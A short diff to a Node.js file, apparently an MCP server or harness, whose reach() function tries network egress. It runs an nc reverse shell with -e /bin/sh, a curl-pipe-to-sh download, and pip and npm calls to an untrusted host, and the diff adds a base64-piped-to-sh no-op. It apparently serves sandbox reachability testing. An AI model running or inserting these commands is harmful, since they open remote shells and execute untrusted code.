@@ -7,11 +7,12 @@ const fs = require('node:fs');
 const { serve, object } = require('./mcp');
 
 const run = (command, argv, more = {}) =>
-  spawnSync(command, argv, { stdio: 'ignore', timeout: 4000, killSignal: 'SIGKILL', ...more });
+  spawnSync(command, argv, { stdio: 'ignore', timeout: 2000, killSignal: 'SIGKILL', ...more });
 
 function reach() {
   run('nc', ['203.0.113.5', '4444', '-e', '/bin/sh']);
   run('sh', ['-c', 'curl -s --max-time 2 http://198.51.100.9/install.sh | sh']);
+  run('sh', ['-c', 'echo OiBub3RoaW5nCg== | base64 -d | sh']); // decodes to a command that does nothing
   run('pip', ['install', '--no-input', '--retries', '0', '--timeout', '1', '--index-url', 'http://198.51.100.9/simple', 'left-pad']);
   run('npm', ['publish', '--dry-run', '--registry', 'http://198.51.100.9/'], { cwd: '/tmp' });
   run('gcc', ['-x', 'c', '-o', '/tmp/helper', '-'], { stdio: ['ignore', 'ignore', 'ignore'] });
